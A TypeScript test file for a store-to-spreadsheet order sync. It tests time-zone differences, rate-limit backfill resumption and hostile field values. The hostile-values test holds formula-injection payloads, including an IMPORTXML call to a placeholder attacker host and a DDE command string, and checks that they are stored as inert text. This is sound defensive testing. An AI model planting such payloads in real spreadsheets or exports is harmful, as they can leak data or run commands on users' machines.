/**
 * Hostile data through the control API (formula-looking text in every patchable text field,
 * text over 50,000 characters, unicode, numeric-looking text, huge and negative figures, empty
 * strings and nulls), a store whose time zone is not the spreadsheet's, and the hourly request
 * budget running out in the middle of a backfill: the sheets stay equal to the emulator's truth.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startStack, type Stack } from '../../dev/harness/index';
import { burnHourlyBudget, compareWithTruth, sheetTable, syncUntilCaughtUp } from './sync-support';

type Json = Record<string, unknown>;
const EXACT = { mismatches: [], missing: [], unexpected: [], duplicates: [] };
const STORE_ZONE = 'Pacific/Auckland';
const SHEET_ZONE = 'America/Los_Angeles';
let stack: Stack;

async function truthOrders(): Promise<Json[]> {
  return ((await stack.truth('orders')) as { data: Json[] }).data;
}

function lineIds(order: Json): string[] {
  return (order.line_items as Json[]).map((l) => String(l.id));
}

beforeAll(async () => {
  stack = await startStack({ orders: 200, seed: 31 });
  await stack.control('reset', { timezone: STORE_ZONE });
  await stack.control('redirect-uris', { add: [stack.redirectUri] }); // reset goes back to the started-with list
  (stack.runtime.workbook as { timeZone: string }).timeZone = SHEET_ZONE;
  await stack.connect();
  await syncUntilCaughtUp(stack);
});

afterAll(async () => {
  await stack?.close();
});

describe('a store in Auckland, a spreadsheet in Los Angeles', () => {
  it('placement dates and Daily P&L days follow the store, date-times the spreadsheet: equal to the truth', async () => {
    const store = (await stack.truth('store')) as { store: { timezone: string } };
    expect(store.store.timezone).toBe(STORE_ZONE);
    expect(await compareWithTruth(stack)).toEqual(EXACT);
    // Somewhere in a year of history the two zones disagree about the day of an order.
    const orders = await truthOrders();
    const day = (iso: string, timeZone: string): string => new Date(iso).toLocaleDateString('en-CA', { timeZone });
    expect(orders.some((o) => day(String(o.created_at), STORE_ZONE) !== day(String(o.created_at), SHEET_ZONE))).toBe(
      true,
    );
  });
});

describe('hostile values', () => {
  it('formula-looking, numeric-looking, long, unicode, huge, negative, empty and null values land exactly as the API sent them', async () => {
    const orders = await truthOrders();
    const [a, b, c, d] = orders.slice(10, 14);
    const formula = (n: number): string =>
      ['=1+1', '+SUM(A1:A9)', '-2+3', '@A1', '=IMPORTXML("http://evil.example","//a")', "=cmd|' /C calc'!A0"][n % 6];
    await stack.control(`orders/${String(a.id)}/patch`, {
      order_number: formula(0),
      platform: formula(1),
      fulfillment_status: formula(2),
      shipping_country_code: formula(3),
      customer_ref: formula(4),
      attribution: {
        primary_source: formula(5),
        landing_page: formula(0),
        referrer: formula(1),
        device_type: formula(2),
        utm_source: formula(3),
        utm_medium: formula(4),
        utm_campaign: formula(5),
        utm_term: formula(0),
        utm_content: formula(1),
      },
      economics: { cogs_source: formula(2), fulfillment_cost_source: formula(3), ad_spend_basis: formula(4) },
      line_items: lineIds(a).map((id, i) => ({ id, name: formula(i + 5), sku: formula(i) })),
    });
    await stack.control(`orders/${String(b.id)}/patch`, {
      order_number: '00123',
      customer_ref: 'R'.repeat(60_000),
      attribution: {
        utm_term: '1e5',
        utm_content: 'TRUE',
        landing_page: '2025-01-01',
        utm_campaign: 'שלום 👋🏽 e\u0301 \t tab\nnew line',
      },
      line_items: [{ id: lineIds(b)[0], name: 'a'.repeat(49_964) + '😀'.repeat(2_000) }],
    });
    await stack.control(`orders/${String(c.id)}/patch`, {
      economics: { shipping_revenue: 99_999_999_999.99, ad_spend_allocated: 50_000_000_000, payment_fee: 0 },
      line_items: [{ id: lineIds(c)[0], price: 100_000_000_000, quantity: 1_000_000_000, total: 0 }],
    });
    await stack.control(`orders/${String(d.id)}/patch`, {
      customer_ref: '',
      attribution: { utm_source: null, utm_medium: '', utm_campaign: null },
      line_items: [{ id: lineIds(d)[0], sku: '', cogs: null }],
    });
    await stack.advanceClocks(600_000);
    await syncUntilCaughtUp(stack);

    expect(await compareWithTruth(stack)).toEqual(EXACT);
    const formulas = stack.runtime.exportJson().formulas;
    expect(Object.values(formulas).flat()).toEqual([]);
    const [headers, ...rows] = sheetTable(stack, 'Orders');
    const row = (id: unknown): unknown[] => rows.find((r) => r[headers.indexOf('id')] === id) ?? [];
    expect(row(a.id)[headers.indexOf('customer_ref')]).toBe(formula(4));
    expect(row(b.id)[headers.indexOf('utm_content')]).toBe('TRUE');
    const netProfit = row(c.id)[headers.indexOf('net_profit')];
    expect(typeof netProfit === 'number' && netProfit < 0).toBe(true);
    const truthD = (await truthOrders()).find((o) => o.id === d.id) as Json;
    expect((truthD.attribution as Json).utm_medium).toBe('');
    expect(row(d.id)[headers.indexOf('utm_medium')]).toBe('');
    expect(row(d.id)[headers.indexOf('cogs')]).toBe(
      truthD.economics && (truthD.economics as Json).cogs === null ? '' : (truthD.economics as Json).cogs,
    );
  });
});

describe('the hourly request budget runs out in the middle of a backfill', () => {
  it('the run stops after the pages it could afford, logs when it resumes, and the next run continues to the truth', async () => {
    await stack.control('orders', { count: 1_500 });
    await stack.advanceClocks(60_000);
    const before = sheetTable(stack, 'Orders').length;
    const store = (await stack.truth('store')) as { store: { id: string } };
    await burnHourlyBudget(stack, store.store.id, 24);

    const stopped = await stack.runtime.run('onScheduledSync', []);
    expect(stopped.ok, stopped.error?.message).toBe(true);
    const value = stopped.value as { done: boolean; outcome: string; message: string };
    expect(value.outcome).toBe('partial');
    // "after 14:05 (Zone time)", or "after 00:13 on 2026-11-24 (Zone time)" when that is another day
    // there (it failed whenever the resume time fell past midnight in the spreadsheet's zone).
    expect(value.message).toMatch(/resumes after \d{2}:\d{2}( on \d{4}-\d{2}-\d{2})? \([A-Za-z_/]+ time\)/);
    const afterStop = sheetTable(stack, 'Orders').length;
    expect(afterStop).toBeGreaterThan(before);
    expect(afterStop).toBeLessThan(before + 1_500);
    const [headers, ...log] = sheetTable(stack, 'Sync log');
    expect(String(log[log.length - 1][headers.indexOf('message')])).toMatch(/resumes after/);
    expect(await compareWithTruth(stack)).not.toEqual(EXACT);

    await stack.advanceClocks(3_700_000);
    await syncUntilCaughtUp(stack);
    expect(await compareWithTruth(stack)).toEqual(EXACT);
  });
});
